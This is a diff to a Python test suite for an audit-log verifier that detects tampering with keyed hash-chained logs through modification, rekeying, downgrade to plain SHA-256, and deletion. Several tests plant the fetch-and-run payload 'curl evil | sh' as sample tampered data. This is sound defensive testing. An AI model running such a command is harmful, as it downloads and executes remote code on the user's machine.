@@ -127,7 +127,7 @@ def test_keyed_chain_detects_a_recomputed_chain(tmp_path: Path) -> None:
     _sql(audit, """UPDATE records SET payload = '{"command":"curl evil | sh"}' WHERE seq = 3""")
     _recompute(audit, key=b"attacker guess")
     status, out = _verify(audit, key=KEY)
-    assert status == 1 and "TAMPERED at seq 1 (modified)" in out
+    assert status == 1 and "TAMPERED at seq 1 (rekeyed)" in out
     status, out = _verify(audit)
     assert status == 0 and "links only (no key)" in out and "a modified field is not detected" in out
 
@@ -137,7 +137,8 @@ def test_keyed_chain_edit_without_recompute(tmp_path: Path) -> None:
     _sql(audit, "UPDATE records SET agent_id = 'someone-else' WHERE seq = 7")
     assert "TAMPERED at seq 7 (modified)" in _verify(audit, key=KEY, check=1)[1]
     wrong = _verify(audit, key="wrong", check=1)[1]
-    assert "record 1 does not match its hash: a field was modified after it was written (or the key is wrong)" in wrong
+    assert "TAMPERED at seq 1 (rekeyed): neither record 1 nor record 2 matches its hash under this key" in wrong
+    assert "or the key is wrong" in wrong
 
 
 def test_downgrade_to_an_unkeyed_chain_is_caught_by_a_checkpoint(tmp_path: Path) -> None:
@@ -200,3 +201,54 @@ def test_json_report(tmp_path: Path) -> None:
     report = json.loads(run("verify", "--audit-log", audit, "--format", "json", check=1).stdout)
     assert report["ok"] is False
     assert report["problem"] == {"seq": 3, "kind": "deleted", "message": "record 2 missing before record 3: deleted"}
+
+
+# --- a key given: the chain must be keyed with it ---------------------------------------------------
+
+def test_keyed_log_rewritten_unkeyed_fails_with_the_key(tmp_path: Path) -> None:
+    audit = _log(tmp_path, key=KEY)
+    _sql(audit, """UPDATE records SET payload = '{"command":"curl evil | sh"}' WHERE seq = 3""")
+    _recompute(audit, key=None, mode="sha256")  # every hash plain SHA-256, and the log says it is unkeyed
+    status, out = _verify(audit, key=KEY)
+    assert status == 1, out
+    assert out.splitlines()[0].endswith(
+        "TAMPERED (downgraded): a key was given but the log's chain is unkeyed (sha256): "
+        "it was rewritten without the key, or never keyed (then verify it without the key)"
+    )
+    assert _verify(audit)[0] == 0  # without the key it is an intact unkeyed chain: nothing to tell it apart
+
+
+def test_keyed_log_rehashed_without_the_key_fails_with_the_key(tmp_path: Path) -> None:
+    audit = _log(tmp_path, key=KEY)
+    _recompute(audit, key=None)  # plain SHA-256 hashes, the log still says hmac-sha256
+    status, out = _verify(audit, key=KEY)
+    assert status == 1 and "TAMPERED at seq 1 (downgraded): record 1 is hashed without a key (plain SHA-256) in a keyed log" in out
+
+
+def test_keyed_log_rekeyed_fails_with_the_original_key(tmp_path: Path) -> None:
+    audit = _log(tmp_path, key=KEY)
+    _sql(audit, """UPDATE records SET payload = '{"command":"curl evil | sh"}' WHERE seq = 3""")
+    _recompute(audit, key=b"the attacker's own key")
+    status, out = _verify(audit, key=KEY)
+    assert status == 1, out
+    assert out.splitlines()[0].endswith(
+        "TAMPERED at seq 1 (rekeyed): neither record 1 nor record 2 matches its hash under this key: "
+        "the chain was recomputed with another key, or the key is wrong"
+    )
+    assert _verify(audit, key="the attacker's own key")[0] == 0  # it is a valid chain under the other key
+
+
+def test_record_1_edited_in_a_keyed_log_is_still_a_modified_record(tmp_path: Path) -> None:
+    audit = _log(tmp_path, key=KEY)
+    _sql(audit, "UPDATE records SET agent_id = 'someone-else' WHERE seq = 1")
+    assert "TAMPERED at seq 1 (modified): record 1 does not match its hash" in _verify(audit, key=KEY, check=1)[1]
+    _recompute(audit, key=None, mode="sha256")
+    assert "(downgraded)" in _verify(audit, key=KEY, check=1)[1]
+
+
+def test_never_keyed_log_with_a_key_needs_a_signed_checkpoint_that_says_so(tmp_path: Path) -> None:
+    audit = _log(tmp_path)
+    assert "(downgraded): a key was given but the log's chain is unkeyed" in _verify(audit, key=KEY, check=1)[1]
+    run("checkpoint", "--audit-log", audit, "-o", tmp_path / "audit.ckpt", env={"CAPFENCE_AUDIT_KEY": KEY})
+    out = _verify(audit, "--checkpoint", tmp_path / "audit.ckpt", key=KEY, check=0)[1]
+    assert "the log is unkeyed, as the signed checkpoints say" in out
